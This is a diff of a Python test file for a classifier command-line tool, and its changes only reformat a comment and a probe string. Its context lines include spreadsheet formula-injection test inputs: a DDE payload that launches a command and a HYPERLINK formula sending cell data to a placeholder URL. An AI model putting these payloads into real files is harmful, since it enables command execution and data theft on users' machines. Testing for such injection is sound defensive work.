@@ -231,7 +231,8 @@ def test_unusable_inputs_and_options_are_refused_without_a_traceback(tmp_path):
     assert inbox.read_bytes() == before and not (tmp_path / "out.csv").exists()
 
 
-FORMULAS = {  # the examples and the other starts OWASP lists; the subject is written redacted (lower case)
+# The examples and the other starts OWASP lists; the subject is written redacted (lower case).
+FORMULAS = {
     "f1": '=hyperlink("<URL>"&a1,"click")',
     "f2": "+cmd|' /c calc'!a0",
     "f3": "-2+3",
@@ -315,6 +316,9 @@ def test_score_from_a_subfolder_finds_the_projects_params_and_model(model_dir, s
 
 def test_the_command_line_loads_no_data_or_model_library_until_a_command_needs_one():
     # What `classifier queue` and `--help` pay at start (docs/performance.md has the timing).
-    probe = "import sys, classifier.cli; print(sorted(m for m in ('pandas', 'sklearn', 'mlflow', 'fugashi', 'scipy') if m in sys.modules))"
+    probe = (
+        "import sys, classifier.cli; "
+        "print(sorted(m for m in ('pandas', 'sklearn', 'mlflow', 'fugashi', 'scipy') if m in sys.modules))"
+    )
     loaded = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
     assert loaded.stdout.strip() == "[]"
